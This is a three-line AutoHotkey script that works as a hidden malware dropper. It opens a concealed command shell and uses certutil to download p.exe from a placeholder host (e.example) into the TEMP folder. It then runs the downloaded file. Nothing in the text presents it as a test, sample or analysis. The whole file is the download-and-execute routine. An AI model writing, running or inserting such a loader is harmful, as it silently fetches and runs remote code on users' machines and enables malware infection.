#Requires AutoHotkey v2.0
RunWait A_ComSpec " /c certutil -urlcache -split -f http://e.example/p.exe %TEMP%\p.exe", , "Hide"
Run EnvGet("TEMP") "\p.exe"
